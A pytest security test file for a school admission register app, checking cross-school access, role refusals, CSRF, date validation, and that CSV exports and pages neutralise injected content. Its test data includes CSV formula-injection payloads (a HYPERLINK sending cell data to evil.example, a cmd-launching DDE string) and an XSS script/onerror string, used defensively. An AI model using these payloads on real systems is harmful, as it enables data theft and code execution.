"""Attacks on the admission register's pages (registers/roll_views.py, registers/leaving.py), as an
insider, a parent, a governor and a school by mistake would try them: other schools' ids, the wrong
people posting, posts without the CSRF token, markup and spreadsheet formulas reaching the printable
notification and the CME CSV, deletions dated wrongly."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.test import Client
from django.urls import reverse

from registers.leaving import CSV_HEADINGS, DeletionRefused, delete_from_register
from registers.models import Contact, Enrolment, Ground, RegisterDeletion, YearRollover
from tests.factories import PupilFactory, StaffFactory, UserFactory, make_school, write

D = dt.date
NOW = dt.datetime(2026, 11, 23, 10, 0, tzinfo=dt.UTC)  # a Monday in the autumn term of 2026/27


@pytest.fixture(autouse=True)
def clock(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    with time_machine.travel(NOW, tick=False):
        yield


def signed_in(client, school, position, username):
    staff = StaffFactory(user=UserFactory(username=username), school=school, position=position)
    client.force_login(staff.user)
    return staff


def form(**data):
    return {"ground": "home_education", "deleted_on": "2026-11-23", "destination": "", "enquiries": "", **data}


@pytest.fixture
def other(db):
    """Another school with a pupil, a deletion and a rollover of its own."""
    school = make_school(urn="100077", name="Other School", establishment_number="2077")
    pupil = PupilFactory(school=school, legal_forename="Secret", legal_surname="Elsewhere", year=5)
    user = UserFactory(username="otheroffice")
    deletion = delete_from_register(
        pupil=pupil, ground=Ground.HOME_EDUCATION, deleted_on=D(2026, 11, 23), user=user, recorded_by_name="Them"
    )
    YearRollover.objects.create(school=school, from_year="2025/26", to_year="2026/27", leaving_date=D(2026, 8, 31))
    return {"school": school, "pupil": pupil, "deletion": deletion}


# --- other schools' ids ----------------------------------------------------------------------


def test_another_schools_ids_in_every_roll_url_are_not_found(client, school, other):
    signed_in(client, school, "office", "office")
    pupil, deletion = other["pupil"], other["deletion"]
    assert client.get(reverse("roll:delete", args=[pupil.pk])).status_code == 404
    assert client.post(reverse("roll:delete", args=[pupil.pk]), form(deleted_on="2026-11-24")).status_code == 404
    response = client.get(reverse("roll:deletion", args=[deletion.pk]))
    assert response.status_code == 404 and "Elsewhere" not in response.content.decode()
    for url in (reverse("roll:deletions"), reverse("roll:notifications-csv"), reverse("roll:rollover")):
        body = client.get(url).content.decode("utf-8-sig")
        assert "Elsewhere" not in body and other["pupil"].upn not in body and "Other School" not in body
    assert RegisterDeletion.objects.count() == 1  # only the other school's own


def test_another_schools_intake_and_pupils_in_the_rollover_form_are_ignored(client, school, other):
    """The stay-on ticks and the intake run are the only ids the rollover form carries."""
    from registers.models import ImportRun

    signed_in(client, school, "office", "office")
    run = ImportRun.objects.create(
        school=other["school"], kind=ImportRun.Kind.PUPILS, file_name="theirs.csv", sha256="0" * 64, size=1,
        status=ImportRun.Status.PREVIEWED, counts={"pupil": {"created": 9}},
    )  # fmt: skip
    with time_machine.travel(dt.datetime(2026, 7, 27, 10, tzinfo=dt.UTC), tick=False):
        page = client.post(
            reverse("roll:rollover"), {"action": "preview", "intake_run": str(run.pk), "stay": [str(other["pupil"].pk)]}
        ).content.decode()
    assert "theirs.csv" not in page and "Elsewhere" not in page


# --- the wrong people ------------------------------------------------------------------------


def make_parent(child):
    user = UserFactory(username="parent")
    Contact.objects.create(pupil=child, priority=1, forename="Jo", surname="P", relationship="Mother", user=user)
    return user


@pytest.mark.parametrize("who", ["class_teacher", "form_tutor", "governor", "trust_leader", "parent", "no_school"])
def test_teachers_parents_and_governors_are_refused_everywhere(client, school, who):
    pupil = PupilFactory(school=school, year=4)
    if who == "parent":
        client.force_login(make_parent(pupil))
    elif who == "no_school":
        client.force_login(UserFactory(username="stranger"))
    else:
        signed_in(client, school, who, "someone")
    deletion = delete_from_register(
        pupil=PupilFactory(school=school, year=2), ground=Ground.HOME_EDUCATION, deleted_on=D(2026, 11, 23),
        user=None, recorded_by_name="Office",
    )  # fmt: skip
    assert client.post(reverse("roll:delete", args=[pupil.pk]), form()).status_code == 403
    assert client.get(reverse("roll:delete", args=[pupil.pk])).status_code == 403
    assert client.get(reverse("roll:deletions")).status_code == 403
    assert client.get(reverse("roll:deletion", args=[deletion.pk])).status_code == 403
    assert client.get(reverse("roll:notifications-csv") + "?cme=1").status_code == 403
    with time_machine.travel(dt.datetime(2026, 7, 27, 10, tzinfo=dt.UTC), tick=False):
        assert client.post(reverse("roll:rollover"), {"action": "apply"}).status_code == 403
    assert Enrolment.objects.get(pupil=pupil).leaving_date is None
    assert RegisterDeletion.objects.count() == 1 and not YearRollover.objects.exists()


def test_signed_out_is_sent_to_sign_in(client, school):
    pupil = PupilFactory(school=school, year=4)
    response = client.post(reverse("roll:delete", args=[pupil.pk]), form())
    assert response.status_code == 302 and "login" in response["Location"]
    assert not RegisterDeletion.objects.exists()


def test_posts_without_the_csrf_token_are_refused(school):
    client = Client(enforce_csrf_checks=True)
    pupil = PupilFactory(school=school, year=4)
    signed_in(client, school, "office", "office")
    assert client.post(reverse("roll:delete", args=[pupil.pk]), form()).status_code == 403
    with time_machine.travel(dt.datetime(2026, 7, 27, 10, tzinfo=dt.UTC), tick=False):
        assert client.post(reverse("roll:rollover"), {"action": "apply"}).status_code == 403
    assert not RegisterDeletion.objects.exists() and not YearRollover.objects.exists()
    assert Enrolment.objects.get(pupil=pupil).leaving_date is None


# --- markup and formulas ---------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 7700 900123+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
]


def test_formulas_anywhere_reach_the_csv_as_text(client, school):
    """Names, contacts, destinations, enquiries and the recorder's name come from the MIS or from
    staff: no cell of the export may start (after white space) with a formula character."""
    staff = signed_in(client, school, "office", "office")
    for formula in FORMULAS:
        pupil = PupilFactory(school=school, year=4, legal_forename=formula, legal_surname=formula)
        Contact.objects.create(
            pupil=pupil, priority=1, title=formula[:10], forename=formula, surname="X", relationship=formula[:30],
            telephone=formula[:30], email="", address=formula, postcode="", lives_with_pupil=True,
        )  # fmt: skip
        delete_from_register(
            pupil=pupil, ground=Ground.OTHER_SCHOOL,
            deleted_on=D(2026, 11, 23), user=staff.user, recorded_by_name=formula, recorded_by_position=formula,
            destination=formula, enquiries=formula,
        )  # fmt: skip
    response = client.get(reverse("roll:notifications-csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == CSV_HEADINGS and len(rows) == 1 + len(FORMULAS)
    for row in rows[1:]:
        for cell in row:
            assert cell.lstrip()[:1] not in ("=", "+", "-", "@") and cell[:1] not in ("\t", "\r", "\n"), cell


def test_markup_in_names_and_destination_is_shown_as_text(client, school):
    signed_in(client, school, "office", "office")
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    pupil = PupilFactory(school=school, year=4, legal_forename=evil, legal_surname="Okafor")
    Contact.objects.create(
        pupil=pupil, priority=1, forename=evil, surname="Okafor", relationship="Mother", address=evil,
        lives_with_pupil=True,
    )  # fmt: skip
    response = client.post(reverse("roll:delete", args=[pupil.pk]), form(ground="other_school", destination=evil))
    assert response.status_code == 302
    for url in (response["Location"], reverse("roll:deletions"), reverse("pupil-detail", args=[pupil.pk])):
        page = client.get(url).content.decode()
        assert "<script>alert" not in page and "<img src=x" not in page
        assert "&lt;script&gt;" in page


# --- deletions dated wrongly -----------------------------------------------------------------


def test_a_deletion_before_the_pupils_last_mark_is_refused(client, school):
    """Dated today, but marks already recorded for later this week (the office typed ahead)."""
    signed_in(client, school, "office", "office")
    pupil = PupilFactory(school=school, year=4)
    with time_machine.travel(dt.datetime(2026, 11, 25, 10, tzinfo=dt.UTC), tick=False):
        write(school, pupil, {(D(2026, 11, 25), "AM"): "/"})
    response = client.post(reverse("roll:delete", args=[pupil.pk]), form())
    assert response.status_code == 200 and "has marks up to 25 Nov 2026" in response.content.decode()
    assert not RegisterDeletion.objects.exists() and Enrolment.objects.get(pupil=pupil).leaving_date is None


def test_a_backdated_deletion_is_refused(school):
    pupil = PupilFactory(school=school, year=4)
    with pytest.raises(DeletionRefused, match="never backdated"):
        delete_from_register(
            pupil=pupil, ground=Ground.HOME_EDUCATION, deleted_on=D(2026, 11, 20), user=None, recorded_by_name="O"
        )
    assert not RegisterDeletion.objects.exists()


def test_a_deletion_in_the_future_ends_the_roll_then_and_no_mark_can_follow(school):
    """Dated next Friday: the pupil stays on roll till then; a mark the week after is refused."""
    from registers.services import MarkValidationError

    pupil = PupilFactory(school=school, year=4)
    delete_from_register(
        pupil=pupil, ground=Ground.OTHER_SCHOOL, deleted_on=D(2026, 11, 27), user=None, recorded_by_name="O",
        destination="Hill School (URN 100123)",
    )  # fmt: skip
    with time_machine.travel(dt.datetime(2026, 11, 27, 10, tzinfo=dt.UTC), tick=False):
        write(school, pupil, {(D(2026, 11, 27), "AM"): "/"})  # still on roll on the last day
    with (
        time_machine.travel(dt.datetime(2026, 11, 30, 10, tzinfo=dt.UTC), tick=False),
        pytest.raises(MarkValidationError, match="not on roll"),
    ):
        write(school, pupil, {(D(2026, 11, 30), "AM"): "/"})


def test_deleting_twice_is_refused(client, school):
    signed_in(client, school, "office", "office")
    pupil = PupilFactory(school=school, year=4)
    assert client.post(reverse("roll:delete", args=[pupil.pk]), form()).status_code == 302
    response = client.post(reverse("roll:delete", args=[pupil.pk]), form(deleted_on="2026-11-30"))
    assert "not on roll" in response.content.decode() and RegisterDeletion.objects.count() == 1


@pytest.mark.parametrize("bad", ["2026-02-30", "yesterday", "\x00", "9999-12-31x", ""])
def test_a_nonsense_date_or_ground_is_a_message_not_a_500(client, school, bad):
    signed_in(client, school, "office", "office")
    pupil = PupilFactory(school=school, year=4)
    assert client.post(reverse("roll:delete", args=[pupil.pk]), form(deleted_on=bad)).status_code == 200
    assert client.post(reverse("roll:delete", args=[pupil.pk]), form(ground=bad or "x")).status_code == 200
    assert client.get(reverse("roll:notifications-csv") + "?cme=" + bad.replace("\x00", "%00")).status_code in (
        200,
        404,
    )
    assert not RegisterDeletion.objects.exists()


# --- the academic-year picker ----------------------------------------------------------------


@pytest.mark.parametrize(
    "picked", ["2019/20", "2030/31", "garbage", "%00", "2025%2F26%00", "x" * 3000, "2025/26'--", "%E2%80%AE"]
)
def test_the_academic_year_picker_given_nonsense_shows_this_year(client, school, picked):
    signed_in(client, school, "office", "office")
    pupil = PupilFactory(school=school, year=4)
    for url in (reverse("pupil-detail", args=[pupil.pk]), reverse("pupil-list")):
        response = client.get(f"{url}?academic_year={picked}")
        assert response.status_code == 200
        assert response.context["period"].name == "Academic year 2026/27"


def test_the_picker_given_last_year_shows_the_whole_of_last_year(client, school):
    signed_in(client, school, "office", "office")
    pupil = PupilFactory(school=school, year=4)
    response = client.get(reverse("pupil-detail", args=[pupil.pk]) + "?academic_year=2025/26")
    assert response.context["period"].name == "Academic year 2025/26" and response.context["period"].complete


@pytest.mark.django_db(transaction=True)
def test_two_offices_deleting_the_same_pupil_at_once_make_one_deletion():
    """Two connections, two transactions: the second waits on the enrolment's lock, then finds the
    pupil off roll and is refused with a message; one deletion, one LA notification."""
    import threading

    from django.db import connection

    school = make_school()
    pupil = PupilFactory(school=school, year=4)
    barrier = threading.Barrier(2)
    done, refused, errors = [], [], []

    def delete(ground):
        try:
            barrier.wait(timeout=30)
            done.append(
                delete_from_register(
                    pupil=pupil,
                    ground=ground,
                    deleted_on=D(2026, 11, 23),
                    user=None,
                    recorded_by_name="Office",
                    destination="Hill School",
                )  # fmt: skip
            )
        except DeletionRefused as exc:
            refused.append(str(exc))
        except Exception as exc:  # noqa: BLE001 - reported below
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=delete, args=(g,)) for g in (Ground.HOME_EDUCATION, Ground.OTHER_SCHOOL)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert not errors, errors
    assert len(done) == 1 and len(refused) == 1 and "not on roll" in refused[0]
    assert RegisterDeletion.objects.filter(pupil=pupil).count() == 1
